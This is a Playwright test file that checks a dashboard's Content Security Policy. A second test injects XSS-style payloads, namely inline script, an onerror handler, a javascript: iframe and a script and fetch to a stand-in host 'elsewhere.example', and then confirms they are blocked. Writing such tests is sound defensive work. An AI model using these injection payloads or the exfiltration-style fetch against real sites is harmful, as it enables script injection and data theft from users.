import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { servedSample } from "../support/served.ts";

const { open } = servedSample();

type Watched = { violations: string[]; ran: boolean };

const pages = ["/", "/kpi/victim-withdrawal?split=district", "/attrition", "/definitions", "/data", "/packs"];
const others = ["/settings", "/audit", "/accessibility", "/data-protection", "/nothing-of-the-kind"];

test("no page does what the content policy forbids", async () => {
  for (const path of [...pages, ...others]) {
    const { page } = await open(path, {}, (fresh) => fresh.addInitScript(watchViolations));
    await page.getByRole("heading", { level: 1 }).waitFor();
    await page.waitForLoadState("networkidle");
    for (const chart of await page.getByRole("application").all()) await chart.hover();
    const { violations } = await watched(page);
    expect(violations, path).toEqual([]);
    await page.close();
  }
});

test("a script, a handler, a frame or a style that got into a page does nothing", async () => {
  const { page } = await open("/", {}, (fresh) => fresh.addInitScript(watchViolations));
  await page.getByRole("heading", { level: 1 }).waitFor();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
    const holder = document.createElement("div");
    holder.innerHTML =
      '<img src="data:image/gif,x" onerror="window.ran = true"><b style="color: red">x</b>' +
      '<iframe src="javascript:parent.ran = true"></iframe><script src="https://elsewhere.example/x.js"></script>';
    document.body.append(holder);
    const foreign = document.createElement("script");
    foreign.src = "https://elsewhere.example/x.js";
    document.body.append(foreign);
    void fetch("https://elsewhere.example/take?x=1").catch(() => undefined);
  });
  const directives = ["connect-src", "img-src", "script-src-elem", "style-src-attr"];
  await expect.poll(async () => (await watched(page)).violations).toEqual(expect.arrayContaining(directives));
  expect((await watched(page)).ran).toBe(false);
  await page.close();
});

function watched(page: Page): Promise<Watched> {
  return page.evaluate(() => {
    const { violations, ran } = window as unknown as Watched;
    return { violations, ran };
  });
}

function watchViolations(): void {
  const watched = window as unknown as Watched;
  watched.violations = [];
  watched.ran = false;
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
    watched.violations.push(effectiveDirective),
  );
}
